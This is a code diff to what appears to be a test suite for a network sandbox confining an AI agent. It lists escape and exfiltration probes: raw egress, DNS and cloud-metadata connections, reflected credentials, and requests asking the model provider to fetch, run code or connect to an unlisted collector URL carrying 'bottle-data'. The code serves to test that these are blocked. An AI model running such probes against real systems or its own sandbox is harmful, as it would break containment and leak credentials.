@@ -20,10 +20,10 @@ import os
 import socket
 import sys
 from collections.abc import Callable
-from dataclasses import asdict, dataclass
+from dataclasses import dataclass
 from typing import Any
 
-from claude_bottle.verify.attack import Attack, Outcome, Verdict
+from claude_bottle.verify.attack import Attack, Outcome, Proof, Verdict
 from claude_bottle.verify.gate_requests import (
     api_request,
     connect,
@@ -37,7 +37,7 @@ from claude_bottle.verify.gate_requests import (
 from claude_bottle.verify.packets import dns_query, gateways, icmp_echo, ipv6_link, lookup, raw_socket, tcp, udp
 
 # What must happen to the attacks whose outcome verify judges again on the host, from their evidence and from
-# what the stub upstream received (``claude_bottle.verify.network``): their outcome names which this is.
+# what the stub upstream received (``claude_bottle.verify.network``, by each outcome's ``Proof``).
 NEVER_COMES_BACK = "the credential never comes back"
 REFUSED_BEFORE_UPSTREAM = "refused before the upstream"
 STRIPPED_BEFORE_UPSTREAM = "stripped before the upstream"
@@ -63,8 +63,9 @@ def attacks(targets: dict[str, Any]) -> list[Probe]:
     gate, api_host, key = targets["gate"], targets["api_host"], targets["attacker_key"]
     found: list[Probe] = []
 
-    def add(group: str, attack: str, expected: str, send: Callable[[], Verdict]) -> None:
-        found.append(Probe(group, attack, expected, send))
+    def add(group: str, attack: str, expected: str, send: Callable[[], Verdict], proof: Proof | None = None,
+            forbidden: str = "") -> None:
+        found.append(Probe(group, attack, expected, send, proof=proof, forbidden=forbidden))
 
     direct, no_way = "direct egress", "no packet gets there"
     for address in targets["public_ipv4"]:
@@ -88,7 +89,7 @@ def attacks(targets: dict[str, Any]) -> list[Probe]:
     looked_up = targets.get("dns_name", "")
     for resolver in dict.fromkeys(targets.get("resolvers", []) + gateways() + targets["host_addresses"]):
         add(direct, f"DNS for {looked_up} straight to {resolver}:53", NO_ADDRESS_BACK,
-            functools.partial(lookup, resolver, looked_up))
+            functools.partial(lookup, resolver, looked_up), Proof.NAME_LOOKUP)
     add(direct, "TCP to the cloud metadata address 169.254.169.254:80", no_way, lambda: tcp("169.254.169.254", 80))
     add(direct, f"ICMP echo to {canary}", "no reply", lambda: icmp_echo(canary))
     for address in targets["public_ipv4"][:1]:
@@ -146,8 +147,8 @@ def attacks(targets: dict[str, Any]) -> list[Probe]:
     api = "API route"
 
     def via_api(attack: str, method: str, path: str, body: dict[str, Any] | None = None, extra: str = "",
-                expected: str = refused) -> None:
-        add(api, attack, expected, lambda: api_request(targets, method, path, body, extra))
+                expected: str = refused, proof: Proof | None = None, forbidden: str = "") -> None:
+        add(api, attack, expected, lambda: api_request(targets, method, path, body, extra), proof, forbidden)
 
     via_api("TRACE", "TRACE", "/")
     for method, path in (("GET", "/v1/files"), ("POST", "/api/oauth/claude_cli/create_api_key"),
@@ -156,23 +157,24 @@ def attacks(targets: dict[str, Any]) -> list[Probe]:
     for mode in ("echo", "echo-header", "echo-split", "echo-reason"):
         via_api(f"an upstream reflecting the credential ({mode})", "POST", "/v1/messages",
                 {"model": "stub", "max_tokens": 1, "messages": [], "stub": {"mode": mode}},
-                expected=NEVER_COMES_BACK)
+                expected=NEVER_COMES_BACK, proof=Proof.ANSWER)
     hi = {"model": "stub", "max_tokens": 1, "messages": [{"role": "user", "content": "hi"}]}
     collector = f"https://{unlisted}/collect"
-    for attack, extra_fields in (
-        # Each name ends with the field or tool type that must never reach the upstream (verify checks).
-        ("the provider connects out for the bottle: mcp_servers",
+    for attack, forbidden, extra_fields in (
+        ("the provider connects out for the bottle: mcp_servers", "mcp_servers",
          {"mcp_servers": [{"type": "url", "url": collector, "name": "c", "authorization_token": "bottle-data"}]}),
-        ("the provider fetches a URL for the bottle: web_fetch_20250910",
+        ("the provider fetches a URL for the bottle: web_fetch_20250910", "web_fetch_20250910",
          {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}],
           "messages": [{"role": "user", "content": f"fetch {collector}?data=bottle-data"}]}),
-        ("the provider runs code for the bottle: code_execution_20250825",
+        ("the provider runs code for the bottle: code_execution_20250825", "code_execution_20250825",
          {"tools": [{"type": "code_execution_20250825", "name": "code_execution"}]}),
     ):
-        via_api(attack, "POST", "/v1/messages", {**hi, **extra_fields}, expected=REFUSED_BEFORE_UPSTREAM)
+        via_api(attack, "POST", "/v1/messages", {**hi, **extra_fields}, expected=REFUSED_BEFORE_UPSTREAM,
+                proof=Proof.UPSTREAM_NEVER_GOT, forbidden=forbidden)
     via_api("an attacker's key sent on the API route", "POST", "/v1/messages",
             {"model": "stub", "max_tokens": 1, "messages": [{"role": "user", "content": "hi"}]},
-            f"x-api-key: {key}\r\nAuthorization: Bearer {key}\r\n", expected=STRIPPED_BEFORE_UPSTREAM)
+            f"x-api-key: {key}\r\nAuthorization: Bearer {key}\r\n", expected=STRIPPED_BEFORE_UPSTREAM,
+            proof=Proof.UPSTREAM_GOT_REAL_CREDENTIAL)
     return found
 
 
@@ -185,8 +187,8 @@ def main() -> None:
     suite = attacks(targets)
     with concurrent.futures.ThreadPoolExecutor(max_workers=min(32, len(suite))) as pool:
         for outcome in pool.map(run_one, suite):
-            print(json.dumps(asdict(outcome)), flush=True)
-    print(json.dumps(asdict(connection_flood(targets))), flush=True)  # alone, after the rest
+            print(outcome.to_json(), flush=True)
+    print(connection_flood(targets).to_json(), flush=True)  # alone, after the rest
     sys.stdout.flush()
     os._exit(0)  # threads stuck in a blocking call must not hold the exit
 
